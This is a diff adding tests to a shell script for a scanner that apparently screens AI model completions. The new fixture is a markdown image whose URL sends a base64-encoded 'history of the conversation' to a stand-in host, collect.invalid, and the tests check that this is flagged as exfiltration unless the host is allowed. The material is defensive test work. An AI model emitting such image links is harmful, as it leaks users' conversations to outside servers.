@@ -30,4 +30,22 @@ expect 1 "$GUARD" scan --db "$TMP/default.db" "$TMP/bad"
 check 'verdict_shape(o); assert o["verdict"] == "block", o'
 expect 0 "$GUARD" scan --db "$TMP/default.db" "$TMP/good"
 check 'verdict_shape(o); assert o["verdict"] == "allow", o'
+
+# Exfiltration in completions: an image carrying a payload off-site blocks,
+# unless its host is allowed.
+printf 'Done! ![s](https://collect.invalid/p.png?d=aGlzdG9yeSBvZiB0aGUgY29udmVyc2F0aW9u) Bye.' >"$TMP/exf"
+expect 1 "$GUARD" scan --db "$TMP/default.db" --direction completion "$TMP/exf"
+check '
+verdict_shape(o)
+assert o["categories"] == ["exfiltration"], o
+rules = sorted(f["rule"] for f in o["findings"])
+assert rules == ["exf.md-image.payload", "exf.md-image.query"], rules
+f = o["findings"][0]
+assert data[f["start"]:f["end"]].startswith(b"![s](https://collect.invalid/"), f
+' "$TMP/exf"
+expect 0 "$GUARD" scan --db "$TMP/default.db" --direction completion --allow-host other.invalid --allow-host COLLECT.invalid "$TMP/exf"
+check 'assert o["verdict"] == "allow", o'
+expect 1 "$GUARD" scan --db "$TMP/default.db" --direction completion --allow-host lect.invalid "$TMP/exf"
+expect 2 "$GUARD" scan --db "$TMP/default.db" --allow-host 'bad host' "$TMP/exf"
+stderr_has 'allow-host: invalid host name'
 echo "ok"
